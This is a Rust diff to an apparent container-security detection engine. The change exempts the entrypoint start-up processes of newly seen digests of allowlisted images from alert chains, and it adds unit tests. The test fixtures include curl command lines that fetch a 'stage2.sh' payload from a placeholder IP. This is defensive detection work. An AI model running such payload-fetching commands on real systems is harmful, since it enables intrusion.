@@ -14,8 +14,8 @@ use crate::stats::EngineStats;
 use pullwatch_model::alert::{Alert, AlertEntity, AlertImage, Evidence, Severity};
 use pullwatch_model::time::Dur;
 use pullwatch_model::{
-    is_public_ip, redact_secrets, ContainerLifecycle, ContainerRef, Event, ImagePull, ImageRef,
-    LifecyclePhase, Name, PodBinding, PodCreate, Ts,
+    exe_basename, is_public_ip, redact_secrets, ContainerLifecycle, ContainerRef, Event, ImagePull,
+    ImageRef, LifecyclePhase, Lineage, Name, PodBinding, PodCreate, Ts,
 };
 use std::collections::HashMap;
 use std::sync::Arc;
@@ -27,12 +27,17 @@ const TECHNIQUE: &str = "T1204.003";
 /// Pulls kept per repository; older ones can no longer anchor a new container anyway
 /// once this many newer pulls of the same repository exist.
 const PULLS_PER_REPOSITORY: usize = 64;
+/// Why start-up activity of a newly seen digest of an allowlisted image made no chain.
+pub const SKIPPED_STARTUP: &str =
+    "activity skipped: the entrypoint of a newly seen digest of an allowlisted image";
 
 /// What a container did that may complete a chain.
 pub enum Activity<'a> {
     Process {
         exe: &'a str,
         cmdline: &'a str,
+        /// Its place in the container's process tree, where the record says.
+        lineage: Lineage,
     },
     Connection {
         dst: std::net::IpAddr,
@@ -76,6 +81,12 @@ struct Ctr {
     started_hint: Option<Ts>,
     sandbox: bool,
     alerted: bool,
+    /// The pod spec's `command` and `args`, when it set `command`: the container's
+    /// pid 1 runs exactly this.
+    spec_argv: Option<Arc<[String]>>,
+    /// Suspicious-looking processes not counted because they were the container's own
+    /// start-up (see [`SKIPPED_STARTUP`]).
+    startup_skipped: u32,
     /// When the runtime reported the container's exit.
     exited: Option<Ts>,
     last_seen: Ts,
@@ -227,6 +238,13 @@ impl ContainerChains {
             };
             if let Some(slot) = self.resolve(&cref, ev.time, m, stats) {
                 if let Some(ctr) = self.ctrs.get_mut(&slot) {
+                    // Without `command` the image's own entrypoint runs, which the spec
+                    // does not name: `args` alone do not say what pid 1 is.
+                    if !spec.command.is_empty() && ctr.spec_argv.is_none() {
+                        let argv: Vec<String> =
+                            spec.command.iter().chain(&spec.args).cloned().collect();
+                        ctr.spec_argv = Some(argv.into());
+                    }
                     if ctr.admitted.is_none() {
                         let by = p
                             .actor
@@ -459,7 +477,7 @@ impl ContainerChains {
         }
         let t = ev.time;
         let (activity_reason, activity_summary) = match act {
-            Activity::Process { exe, cmdline } => {
+            Activity::Process { exe, cmdline, .. } => {
                 let Some((entry, applet)) = m.suspicious_process(exe, cmdline) else {
                     stats.activity("process not in suspicious_binaries");
                     return None;
@@ -526,7 +544,9 @@ impl ContainerChains {
             return None;
         };
         let novelty = self.novelty(ctr, &image, t);
-        let trust_reason = match m.trust(&image) {
+        let trust = m.trust(&image);
+        let allowed_but_new = matches!(trust, Trust::Allowed(_));
+        let trust_reason = match trust {
             Trust::Allowed(entry) => match novelty.first_seen_reason(&image, entry) {
                 Some(reason) => reason,
                 None => {
@@ -572,6 +592,24 @@ impl ContainerChains {
             stats.activity("activity after time_window");
             return None;
         }
+        // An allowlisted image whose only fault is a digest the baseline lacks is judged
+        // by what it does beyond starting: its entrypoint, and what the entrypoint runs
+        // directly, are the image's own start-up. A moved tag, an untrusted image, an
+        // exec and anything deeper still make a chain.
+        if allowed_but_new && novelty.tag_moved.is_none() {
+            if let Activity::Process {
+                exe,
+                cmdline,
+                lineage,
+            } = act
+            {
+                if is_startup(lineage, ctr.spec_argv.as_deref(), exe, cmdline) {
+                    ctr.startup_skipped = ctr.startup_skipped.saturating_add(1);
+                    stats.activity(SKIPPED_STARTUP);
+                    return None;
+                }
+            }
+        }
         let mut image = image;
         if let Some(p) = &ctr.pull {
             image.absorb(&p.image);
@@ -616,6 +654,12 @@ impl ContainerChains {
         if let (Some(s), Some(ns)) = (scope, ctr.namespace.as_deref()) {
             reasons.push(format!(
                 "severity critical: namespace {ns} is in namespace_scope ({s})"
+            ));
+        }
+        if ctr.startup_skipped > 0 {
+            reasons.push(format!(
+                "{} earlier process(es) of the container's own start-up (its entrypoint, or run directly by it) were not counted: expected for a newly seen digest of an allowlisted image",
+                ctr.startup_skipped
             ));
         }
         let severity = novelty.raise(severity, &mut reasons);
@@ -711,6 +755,7 @@ impl ContainerChains {
                     fresh.started = None;
                     fresh.started_hint = None;
                     fresh.alerted = false;
+                    fresh.startup_skipped = 0;
                     fresh.exited = None;
                     let slot = self.insert(fresh, now, m, stats);
                     by_pod = Some(slot);
@@ -865,6 +910,10 @@ impl ContainerChains {
         };
         ctr.sandbox |= other.sandbox;
         ctr.alerted |= other.alerted;
+        if ctr.spec_argv.is_none() {
+            ctr.spec_argv = other.spec_argv;
+        }
+        ctr.startup_skipped = ctr.startup_skipped.saturating_add(other.startup_skipped);
         ctr.exited = match (ctr.exited, other.exited) {
             (Some(x), Some(y)) => Some(x.max(y)),
             (x, y) => x.or(y),
@@ -1044,6 +1093,36 @@ impl EvictRank {
     }
 }
 
+/// Whether a process is the container's own start-up: the entrypoint (pid 1 inside the
+/// container) or a process it started directly (parent pid 1), by the record's own
+/// in-container pids; for a record without them, a command line that is the pod spec's
+/// `command` and `args`. Never a process the runtime started with `exec`.
+fn is_startup(lineage: &Lineage, spec_argv: Option<&[String]>, exe: &str, cmdline: &str) -> bool {
+    if lineage.exec {
+        return false;
+    }
+    if lineage.pid.is_some() || lineage.ppid.is_some() {
+        return lineage.is_startup();
+    }
+    spec_argv.is_some_and(|argv| runs_argv(argv, exe, cmdline))
+}
+
+/// Whether a command line is `argv`, compared word by word (command lines are joined
+/// with spaces, so an argument holding spaces is several words), the program by its
+/// basename: sources report it as a path or as a name.
+fn runs_argv(argv: &[String], exe: &str, cmdline: &str) -> bool {
+    let mut want = argv.iter().flat_map(|a| a.split_whitespace());
+    let mut got = cmdline.split_whitespace();
+    let (Some(w0), Some(g0)) = (want.next(), got.next()) else {
+        return false;
+    };
+    let program = exe_basename(w0);
+    if program != exe_basename(g0) && program != exe_basename(exe) {
+        return false;
+    }
+    want.eq(got)
+}
+
 fn alert_image(i: &ImageRef) -> AlertImage {
     AlertImage {
         reference: i.to_string(),
@@ -1063,4 +1142,299 @@ fn endpoint(ip: std::net::IpAddr, port: Option<u16>) -> String {
 
 fn quote(s: &str) -> String {
     format!("'{s}'")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::config::Config;
+    use crate::provenance::ProvenanceView;
+    use crate::Engine;
+    use pullwatch_model::{EventKind, Format, Placement, ProcessExec, SourceRef};
+
+    const REPO: &str = "docker.io/library/nginx";
+    const KNOWN: &str = "sha256:1111111111111111111111111111111111111111111111111111111111111111";
+    const NEW: &str = "sha256:2222222222222222222222222222222222222222222222222222222222222222";
+    const EVIL: &str = "sha256:6666666666666666666666666666666666666666666666666666666666666666";
+    const ID: &str = "3f9c2a7d1e8b4c5d6e7f8a9b0c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d";
+
+    fn t(s: i64) -> Ts {
+        Ts(1_800_000_000_000_000_000 + s * 1_000_000_000)
+    }
+
+    fn lineage(pid: Option<u32>, ppid: Option<u32>) -> Lineage {
+        Lineage {
+            pid,
+            ppid,
+            exec: false,
+        }
+    }
+
+    /// A process in a container started at `t(0)`, as Tetragon reports one.
+    fn proc_in(at: i64, image: &str, exe: &str, cmdline: &str, lineage: Lineage) -> Event {
+        Event::new(
+            t(at),
+            SourceRef {
+                format: Format::Tetragon,
+                path: Arc::from("tetragon.jsonl"),
+                line: at as u64,
+            },
+            EventKind::Process(ProcessExec {
+                placement: Placement::Container(ContainerRef {
+                    host: Some(pullwatch_model::name("node-1")),
+                    id: Some(pullwatch_model::name(ID)),
+                    name: Some(pullwatch_model::name("web")),
+                    pod: Some(pullwatch_model::name("web-7d9f8")),
+                    namespace: Some(pullwatch_model::name("shop")),
+                    image: Some(ImageRef::parse(image)),
+                    started_at: Some(t(0)),
+                }),
+                pid: Some(4000 + at as u32),
+                ppid: None,
+                exe: pullwatch_model::name(exe),
+                cmdline: cmdline.to_string(),
+                parent_exe: None,
+                user: None,
+                lineage,
+            }),
+        )
+    }
+
+    fn nginx(digest: &str) -> String {
+        format!("nginx:1.28@{digest}")
+    }
+
+    /// nginx's official start-up: `/docker-entrypoint.sh` as pid 1 running its scripts.
+    fn startup(image: &str) -> Vec<Event> {
+        vec![
+            proc_in(
+                1,
+                image,
+                "/bin/sh",
+                "/bin/sh /docker-entrypoint.sh nginx -g daemon off;",
+                lineage(Some(1), None),
+            ),
+            proc_in(
+                2,
+                image,
+                "/bin/sh",
+                "sh -c /docker-entrypoint.d/10-listen-on-ipv6-by-default.sh",
+                lineage(Some(23), Some(1)),
+            ),
+        ]
+    }
+
+    fn scan(baseline: bool, events: Vec<Event>) -> (Vec<Alert>, EngineStats) {
+        let mut engine = Engine::new(Config::default());
+        if baseline {
+            let mut view = ProvenanceView::new();
+            view.add_digest(REPO, KNOWN);
+            engine = engine.with_provenance(view);
+        }
+        let mut alerts = Vec::new();
+        for ev in events {
+            engine.push(ev, &mut alerts);
+        }
+        engine.finish(&mut alerts);
+        (alerts, engine.stats())
+    }
+
+    #[test]
+    fn an0691_entrypoint_of_a_new_allowlisted_digest_is_start_up() {
+        let (alerts, stats) = scan(true, startup(&nginx(NEW)));
+        assert!(alerts.is_empty(), "{alerts:#?}");
+        assert_eq!(stats.activity.get(SKIPPED_STARTUP), Some(&2));
+    }
+
+    #[test]
+    fn an0691_deeper_or_exec_processes_of_a_new_digest_still_alert() {
+        let image = nginx(NEW);
+        // A curl two levels below the entrypoint.
+        let mut events = startup(&image);
+        events.push(proc_in(
+            5,
+            &image,
+            "/usr/bin/curl",
+            "curl -fsSL http://198.51.100.23/x",
+            lineage(Some(40), Some(23)),
+        ));
+        let (alerts, stats) = scan(true, events);
+        assert_eq!(alerts.len(), 1, "{alerts:#?}");
+        let a = &alerts[0];
+        assert_eq!(a.severity, Severity::Medium);
+        assert!(a.reasons[0].contains("is not in the baseline"), "{a:#?}");
+        assert!(
+            a.reasons
+                .iter()
+                .any(|r| r.starts_with("2 earlier process(es) of the container's own start-up")),
+            "{:#?}",
+            a.reasons
+        );
+        assert_eq!(stats.activity.get(SKIPPED_STARTUP), Some(&2));
+
+        // An exec'd shell: its parent is the runtime, outside the container.
+        let mut events = startup(&image);
+        events.push(proc_in(5, &image, "/bin/sh", "sh", lineage(Some(57), None)));
+        let (alerts, _) = scan(true, events);
+        assert_eq!(alerts.len(), 1);
+        assert_eq!(alerts[0].severity, Severity::Medium);
+
+        // Marked as an exec by its source, even at pid 1's level.
+        let exec = Lineage {
+            pid: None,
+            ppid: Some(1),
+            exec: true,
+        };
+        let (alerts, _) = scan(true, vec![proc_in(5, &image, "/bin/sh", "sh", exec)]);
+        assert_eq!(alerts.len(), 1);
+        // Without in-container pids and without a pod spec: nothing says it is start-up.
+        let (alerts, _) = scan(
+            true,
+            vec![proc_in(5, &image, "/bin/sh", "sh", Lineage::default())],
+        );
+        assert_eq!(alerts.len(), 1);
+    }
+
+    #[test]
+    fn an0691_untrusted_or_moved_images_entrypoints_still_alert() {
+        let evil = format!("docker.io/kitty0x/toolbox:latest@{EVIL}");
+        let events = vec![proc_in(
+            3,
+            &evil,
+            "/usr/bin/curl",
+            "curl -fsSL http://198.51.100.23/stage2.sh",
+            lineage(Some(1), None),
+        )];
+        let (alerts, stats) = scan(true, events.clone());
+        assert_eq!(alerts.len(), 1);
+        assert_eq!(alerts[0].severity, Severity::High);
+        assert_eq!(stats.activity.get(SKIPPED_STARTUP), None);
+        let (alerts, _) = scan(false, events);
+        assert_eq!(alerts.len(), 1);
+
+        // The tag the baseline knew now resolves elsewhere: raised, and not excused.
+        let mut engine = Engine::new(Config::default());
+        let mut view = ProvenanceView::new();
+        view.add_tag_digest(REPO, "1.28", KNOWN);
+        engine = engine.with_provenance(view);
+        let mut alerts = Vec::new();
+        for ev in startup(&nginx(NEW)) {
+            engine.push(ev, &mut alerts);
+        }
+        engine.finish(&mut alerts);
+        assert_eq!(alerts.len(), 1, "{alerts:#?}");
+        assert_eq!(alerts[0].severity, Severity::High);
+    }
+
+    #[test]
+    fn an0691_known_digest_and_no_baseline_are_unchanged() {
+        // A digest the baseline knows makes no chain, start-up or not.
+        let (alerts, stats) = scan(true, startup(&nginx(KNOWN)));
+        assert!(alerts.is_empty());
+        assert_eq!(stats.activity.get(SKIPPED_STARTUP), None);
+        let (alerts, _) = scan(false, startup(&nginx(NEW)));
+        assert!(alerts.is_empty());
+    }
+
+    #[test]
+    fn an0691_pod_spec_command_is_start_up_for_records_without_pids() {
+        let image = nginx(NEW);
+        let create = Event::new(
+            t(-2),
+            SourceRef {
+                format: Format::K8sAudit,
+                path: Arc::from("audit.jsonl"),
+                line: 1,
+            },
+            EventKind::PodCreate(PodCreate {
+                namespace: "shop".into(),
+                pod: "web-7d9f8".into(),
+                node: Some("node-1".into()),
+                containers: vec![pullwatch_model::PodContainerSpec {
+                    name: "web".into(),
+                    image: ImageRef::parse(&image),
+                    image_raw: image.clone(),
+                    pull_policy: None,
+                    kind: pullwatch_model::PodContainerKind::Regular,
+                    command: vec!["/bin/sh".into(), "-c".into()],
+                    args: vec!["exec nginx -g 'daemon off;'".into()],
+                }],
+                actor: None,
+            }),
+        );
+        let spec_run = proc_in(
+            1,
+            &image,
+            "/bin/sh",
+            "sh -c exec nginx -g 'daemon off;'",
+            Lineage::default(),
+        );
+        let (alerts, stats) = scan(true, vec![create.clone(), spec_run]);
+        assert!(alerts.is_empty(), "{alerts:#?}");
+        assert_eq!(stats.activity.get(SKIPPED_STARTUP), Some(&1));
+        // Another command line is not the spec's.
+        let other = proc_in(1, &image, "/bin/sh", "sh -c id", Lineage::default());
+        let (alerts, _) = scan(true, vec![create, other]);
+        assert_eq!(alerts.len(), 1);
+    }
+
+    #[test]
+    fn an0691_start_up_by_pids_or_spec() {
+        let spec: Vec<String> = vec!["nginx".into(), "-g".into(), "daemon off;".into()];
+        assert!(runs_argv(
+            &spec,
+            "/usr/sbin/nginx",
+            "/usr/sbin/nginx -g daemon off;"
+        ));
+        assert!(runs_argv(&spec, "/usr/sbin/nginx", "nginx -g daemon off;"));
+        assert!(!runs_argv(&spec, "/usr/sbin/nginx", "nginx -g daemon"));
+        assert!(!runs_argv(&spec, "/usr/bin/curl", "curl -g daemon off;"));
+        assert!(!runs_argv(&[], "/bin/sh", "sh"));
+        // Pids, where the record has them, decide; the spec is for records without.
+        let none = Lineage::default();
+        assert!(is_startup(&lineage(Some(1), None), None, "sh", "sh"));
+        assert!(is_startup(&lineage(Some(9), Some(1)), None, "sh", "sh"));
+        assert!(!is_startup(&lineage(Some(9), Some(8)), None, "sh", "sh"));
+        assert!(!is_startup(
+            &lineage(Some(9), Some(8)),
+            Some(&spec),
+            "nginx",
+            "nginx -g daemon off;"
+        ));
+        assert!(is_startup(
+            &none,
+            Some(&spec),
+            "nginx",
+            "nginx -g daemon off;"
+        ));
+        assert!(!is_startup(&none, None, "nginx", "nginx -g daemon off;"));
+        let exec = Lineage {
+            exec: true,
+            ..lineage(Some(1), None)
+        };
+        assert!(!is_startup(
+            &exec,
+            Some(&spec),
+            "nginx",
+            "nginx -g daemon off;"
+        ));
+    }
+
+    #[test]
+    fn an0691_host_pid_namespace_says_nothing() {
+        // hostPID: the in-namespace pids are the host's, so pid 1's child is no start-up.
+        assert_eq!(
+            Lineage::from_pids(Some(812), Some(812), Some(1), Some(1)),
+            Lineage::default()
+        );
+        assert_eq!(
+            Lineage::from_pids(Some(4001), Some(1), Some(3990), None),
+            lineage(Some(1), None)
+        );
+        // 0 is Falco's "parent outside the namespace".
+        assert_eq!(
+            Lineage::from_pids(Some(4001), Some(7), Some(3990), Some(0)),
+            lineage(Some(7), None)
+        );
+    }
 }
